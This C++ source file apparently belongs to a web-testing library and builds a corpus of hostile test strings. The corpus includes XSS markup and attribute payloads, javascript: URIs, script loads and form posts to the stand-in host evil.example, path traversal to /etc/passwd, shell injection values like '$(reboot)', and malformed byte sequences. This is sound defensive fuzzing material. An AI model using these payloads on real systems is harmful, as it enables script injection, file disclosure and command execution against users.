#include "web/web_testing.h"

namespace assay {
namespace {

const char* const kMarkup[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><button>go</button>",
    "<template><script>alert(1)</script></template>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!-- <script>alert(1)</script> -->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<table><td background=javascript:alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x contenteditable onblur=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
};
// Text that ends the element or the attribute it stands in.
const char* const kClosers[] = {
    "</title>", "</textarea>", "</pre>",  "</style>",  "</script>", "</table>",
    "</main>",  "</code>",     "</svg>",  "</select>", "</option>", "</a>",
    "\">",      "'>",          "\"/>",    "'/>",       "\" ",       "' ",
    "`",        "&quot;>",     "&#34;>",  "&lt;",      "&amp;lt;",  "&#x3C;script&#x3E;",
    "\\\">",    "%22%3E",      "\\u003c", "\\x3c",     "]]>",       "*/",
};
const char* const kAttributes[] = {
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" style=\"x:expression(1)",
    "\" autofocus onfocus=\"alert(1)",
    "x\" id=\"main",
    "\"><script>alert(1)</script>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/",
    "/\\evil.example",
    "..",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "\\..\\..\\windows",
    "file:///etc/passwd",
    "?a=b&c=d",
    "#main",
    "a b",
    "a;b",
    "{}",
    "{0}",
    "{:1000000}",
    "%s%n",
    "$(reboot)",
    "`reboot`",
};

}  // namespace

std::vector<std::string> HostileStrings() {
  std::vector<std::string> strings;
  strings.insert(strings.end(), std::begin(kMarkup), std::end(kMarkup));
  strings.insert(strings.end(), std::begin(kAttributes), std::end(kAttributes));
  for (const char* closer : kClosers) {
    strings.push_back(closer);
    strings.push_back(std::string(closer) + "<script>alert(1)</script>");
  }
  using std::string_literals::operator""s;
  for (const std::string& bytes :
       {"\0<script>"s, "\x1b[31mred\x1b[0m"s, "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07"s,
        "\xff\xfe<script>"s, "\xc0\xbcscript\xc0\xbe"s, "\xed\xa0\x80"s, "\xf4\x90\x80\x80"s,
        "\xe2\x80\xaegnp.exe"s, "\xe2\x81\xa6x\xe2\x81\xa9"s, "\xe2\x80\x8b"s, "\xef\xbb\xbf<x>"s,
        "\r\n\r\n<script>"s, "\x7f\x80\x9f"s, "a\tb\nc"s, "\xe2\x80\xa8\xe2\x80\xa9"s,
        std::string(10'000, '<'), std::string(3000, '&'), "\xcc\x81\xcc\x81\xcc\x81"s})
    strings.push_back(bytes);
  return strings;
}

}  // namespace assay
